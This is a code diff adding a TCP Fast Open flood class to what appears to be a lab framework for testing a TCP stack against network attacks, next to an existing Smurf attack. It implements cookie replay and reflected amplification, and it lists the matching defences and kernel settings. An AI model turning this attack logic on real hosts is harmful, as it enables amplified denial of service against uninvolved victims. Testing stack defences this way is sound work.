@@ -133,3 +133,56 @@ class Smurf(Attack):
     def judge(self) -> tuple[bool | None, list[str]]:
         """It works if answers were sent."""
         return self.echoes > 0, [f"{self.echoes} answers went to {show_ip(self.target)}, which had asked nobody"]
+
+
+class FastOpenFlood(Attack):
+    """Requests that come with the SYN, on handshakes that are never ended."""
+
+    __slots__ = ("before", "bytes", "cookie", "served")
+    NAME = "fast-open-flood"
+    PLAN: ClassVar[Plan] = Plan(count=1000, every=500, lasting=300_000, port=80, conn=0, offset=0)
+    ABOUT = ("SYNs with a request in each, and the cookie that their address was once given, sent again and again: the "
+             "victim works, and answers with many times as many bytes, whoever is at that address by now.")
+    DEFENCE = ("so many handshakes with data may be pending, and those that were reset count for a minute "
+               "(tcp.fastopen_queue); cookies age (tcp.fastopen_rotate)")
+    KNOBS = ("tcp.fastopen=server", "tcp.fastopen_queue=1048576")
+    RFC = "RFC 7413 §5.1, §5.2"
+    REQUEST = b"GET / HTTP/1.1\r\nHost: lab\r\n\r\n"
+
+    def prepare(self) -> None:
+        """There is no cookie yet."""
+        self.cookie = b""
+        self.served: dict[int, bool] = {}
+        self.bytes = self.before = 0
+
+    def move(self, index: int) -> None:
+        """Ask for a cookie first, then use it again and again."""
+        if not index:
+            self._syn(PROBE_PORT, b"", b"")
+        elif self.cookie:
+            self.before += 1
+            self._syn(PROBE_PORT + index, self.cookie, self.REQUEST)
+
+    def _syn(self, port: int, cookie: bytes, payload: bytes) -> None:
+        self.segment(self.address(OWN), port & 0xFFFF, self.plan.port, 7000, 0, tcp.SYN, payload=payload,
+                     options=tcp.build_options(mss=1460, fast_open=cookie))
+
+    def heard_segment(self, segment: VictimSegment) -> None:
+        """A cookie, or an answer."""
+        header = segment.header
+        if segment.destination != self.address(OWN):
+            return
+        if header.destination_port == PROBE_PORT and header.flags & tcp.SYN:
+            self.cookie = tcp.parse_options(header.options).fast_open or b""
+            self.segment(segment.destination, PROBE_PORT, self.plan.port, header.acknowledgement, 0, tcp.RST)
+        elif segment.payload:
+            self.served[header.destination_port] = True
+            self.bytes += len(segment.payload)
+
+    def judge(self) -> tuple[bool | None, list[str]]:
+        """It works if nearly every request is answered."""
+        if not self.cookie:
+            return False, ["no cookie was given"]
+        return len(self.served) > self.plan.count // 2, [
+            f"{len(self.served)} of {self.before} requests were answered before a handshake was done, "
+            f"with {self.bytes:,} bytes"]
